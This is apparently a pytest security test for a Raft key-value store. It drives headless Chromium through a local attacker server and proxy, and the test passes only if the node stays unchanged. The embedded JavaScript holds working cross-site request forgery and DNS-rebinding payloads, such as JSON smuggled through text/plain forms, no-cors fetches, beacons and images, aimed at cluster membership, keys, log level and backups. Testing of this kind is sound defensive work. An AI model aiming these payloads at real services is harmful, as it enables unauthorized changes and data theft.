"""A real browser loads pages of other origins, which try every way that a page has to change something."""

import json
import re
import shutil
from collections.abc import AsyncIterator
from functools import partial
from http import HTTPStatus
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio
from hypercorn.typing import ASGIFramework
from quart_trio import QuartTrio

from raftkv_trio.config import RestConfig
from raftkv_trio.http import Request, Response, serve_http, with_content
from tests.rest.serving import Served, open_client, open_server

CHROMIUM = shutil.which("chromium")
PATIENCE_S = 300
ATTEMPTS = 20
#: How many of a page's attempts reach the node as changes. A browser sends the others only after a preflight
#: request, to which the node grants nothing; for a page of the node's own origin it needs none.
CHANGES = {"elsewhere": 8, "beside": 8, "sandbox": 8, "rebound": 13}
SECRET = "the value of a key"
#: Where each page is from: another site, the same site, a sandbox (origin `null`), and a name of the attacker
#: that leads to the node once the page is loaded, so that the node is of the page's own origin.
PAGES = {
    "elsewhere": "http://localhost:{port}",
    "beside": "http://127.0.0.1:{port}",
    "sandbox": "http://127.0.0.1:{port}",
    "rebound": "http://evil.test",
}
SCRIPT = """
const tried = [];
async function attempt(name, action) {
    try { tried.push([name, await action()]) } catch (error) { tried.push([name, `blocked: ${error}`]) }
}
function submit(type, path, name, value) {
    return new Promise(loaded => {
        const frame = document.createElement("iframe");
        frame.name = `frame${tried.length}`;
        document.body.append(frame);
        const form = document.createElement("form");
        Object.assign(form, {method: "POST", action: node + path, enctype: type, target: frame.name});
        const field = document.createElement("input");
        Object.assign(field, {name: name, value: value});
        form.append(field);
        document.body.append(form);
        frame.onload = () => loaded("sent");
        form.submit();
    });
}
function load(path) {
    return new Promise(ended => {
        const image = new Image();
        image.onload = image.onerror = () => ended("sent");
        image.src = node + path;
    });
}
async function ask(method, path, more) {
    return await (await fetch(node + path, {method, ...more})).text();
}
(async () => {
    const member = "http://127.0.0.1:4", json = {"Content-Type": "application/json"};
    const change = JSON.stringify({id: 4, url: member});
    const simple = {mode: "no-cors"};
    await attempt("form", () => submit("text/plain", "/-/members", change.slice(0, -2), '"}'));
    const urlencoded = "application/x-www-form-urlencoded";
    await attempt("urlencoded form", () => submit(urlencoded, "/-/leader", "a", "b"));
    await attempt("multipart form", () => submit("multipart/form-data", "/-/snapshot", "a", "b"));
    await attempt("member", () => ask("POST", "/4", {...simple, body: member}));
    await attempt("empty post", () => ask("POST", "/-/snapshot", simple));
    await attempt("json as text", () => ask("POST", "/-/members", {...simple, body: change}));
    await attempt("json", () => ask("POST", "/-/members", {headers: json, body: change}));
    await attempt("keepalive", () => ask("POST", "/4", {...simple, keepalive: true, body: member}));
    await attempt("put", () => ask("PUT", "/key", {body: "evil"}));
    await attempt("put without leave", () => ask("PUT", "/key", {...simple, body: "evil"}));
    await attempt("delete", () => ask("DELETE", "/key"));
    await attempt("delete member", () => ask("DELETE", "/1"));
    await attempt("log level", () => ask("PUT", "/-/log-level", {headers: json, body: '{"level": "error"}'}));
    await attempt("beacon", () => navigator.sendBeacon(node + "/4", member));
    await attempt("json beacon", () => navigator.sendBeacon(
        node + "/-/members", new Blob([change], {type: "application/json"})));
    await attempt("image", () => load("/key"));
    await attempt("backup as an image", () => load("/-/backup"));
    await attempt("backup", () => ask("GET", "/-/backup", simple));
    await attempt("read", () => ask("GET", "/key"));
    await attempt("read without leave", () => ask("GET", "/key", simple));
    await fetch("/done/" + page, {method: "POST", mode: "no-cors", body: JSON.stringify(tried)});
    if (next) location = next;
})();
"""


class Attacker:
    """The server of the pages; for the browser it is the proxy too, by which `evil.test` leads to the node.

    Attributes:
        tried: what each page has tried, with what came of it, once all of the page's attempts have ended.
    """

    def __init__(self, node_url: str, http: httpx.AsyncClient) -> None:
        self.tried: dict[str, dict[str, Any]] = {}
        self.app: ASGIFramework = QuartTrio(__name__)  # nothing is left to it
        self.port = 0
        self.all_done = trio.Event()
        self._node_url = node_url
        self._http = http

    def url(self, page: str) -> str:
        return f"{PAGES[page].format(port=self.port)}/attack/{page}"

    async def answer(self, request: Request) -> Response | None:
        path = (request.origin_form() or b"").decode()
        content = b"".join([part async for part in _parts(request)])
        _, action, *names = path.split("/", 2)
        if action == "attack":
            return self._page(names[0])
        if action == "done":
            self.tried[names[0]] = dict(json.loads(content))
            if self.tried.keys() == PAGES.keys():
                self.all_done.set()
            return with_content(HTTPStatus.OK, b"", "text/plain")
        if dict(request.fields)[b"host"].startswith(b"evil.test"):
            fields = [(name, value) for name, value in request.fields if name != b"content-length"]
            url = self._node_url + path
            answer = await self._http.request(request.method, url, headers=fields, content=content)
            kind = answer.headers.get("Content-Type", "text/plain")
            return with_content(HTTPStatus(answer.status_code), answer.content, kind)
        return with_content(HTTPStatus.NOT_FOUND, b"", "text/plain")  # an icon of the page

    def _page(self, page: str) -> Response:
        names = list(PAGES)
        following = names[names.index(page) + 1 :]
        # After a rebound the node is of the page's own origin.
        node = "http://evil.test" if page == "rebound" else self._node_url
        given = {"node": node, "page": page, "next": self.url(following[0]) if following else ""}
        constants = "".join(f"const {name} = {json.dumps(value)};" for name, value in given.items())
        html = f"<!doctype html><body><script>{constants}{SCRIPT}</script>".encode()
        policy = {"Content-Security-Policy": "sandbox allow-scripts allow-forms"} if page == "sandbox" else {}
        return with_content(HTTPStatus.OK, html, "text/html", policy)


async def _parts(request: Request) -> AsyncIterator[bytes]:
    while (part := await request.part()) is not None:
        yield part


async def state(served: Served, client: httpx.AsyncClient) -> dict[str, object]:
    """All that the pages try to change."""
    members = (await client.get("/-/members")).json()
    status = (await client.get("/-/status")).json()
    names = ("term", "snapshot_index", "revision", "state_hash")
    return {
        **{name: status[name] for name in names},
        "members": [(member["id"], member["url"]) for member in members],
        "value": (await client.get("/key")).text,
        "level": (await client.get("/-/log-level")).text,
    }


async def refused_changes(client: httpx.AsyncClient) -> int:
    """How many changes the node has refused so far, for their origin or for the name of their host."""
    counts = re.findall(
        r'http_requests_total\{method="(?:POST|PUT|DELETE)",route="[^"]+",status="4(?:03|21)"\} (\d+)',
        (await client.get("/-/metrics")).text,
    )
    return sum(map(int, counts))


@pytest.fixture
def chromium(tmp_path: Path) -> list[str]:
    """The command of a headless browser without a profile, whose last argument is to be a URL."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed; on Debian: apt-get install --no-install-recommends chromium")
    return [
        CHROMIUM,
        "--headless=new",
        "--no-sandbox",  # which root cannot have; the only pages are ours
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--disable-features=HttpsUpgrades",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
    ]


@pytest.mark.long
async def test_pages_of_other_origins_change_nothing(chromium: list[str], tmp_path: Path) -> None:
    """They try forms, fetch with and without preflight, beacons and images; they change and read nothing."""
    with trio.fail_after(PATIENCE_S):
        async with (
            open_server(tmp_path / "data") as served,
            open_client(served) as client,
            httpx.AsyncClient(timeout=PATIENCE_S) as http,
            trio.open_nursery() as nursery,
        ):
            assert (await client.put("/key", content=SECRET)).status_code == 204
            before = await state(served, client)
            attacker = Attacker(served.url, http)
            attacker.port = await nursery.start(serve_http, attacker, RestConfig(port=0))
            command = [*chromium, f"--proxy-server=http=127.0.0.1:{attacker.port}", attacker.url("elsewhere")]
            run = partial(trio.run_process, command, capture_stdout=True, capture_stderr=True)
            nursery.start_soon(run)  # killed by the cancellation below
            await attacker.all_done.wait()
            # Nothing tells a page when its beacons have been answered; the node counts what it has refused.
            while (await refused_changes(client)) < sum(CHANGES.values()):  # noqa: ASYNC110
                await trio.sleep(0.05)
            assert await state(served, client) == before
            for page, tried in attacker.tried.items():
                assert len(tried) == ATTEMPTS, page
                assert SECRET not in json.dumps(tried), page
            nursery.cancel_scope.cancel()
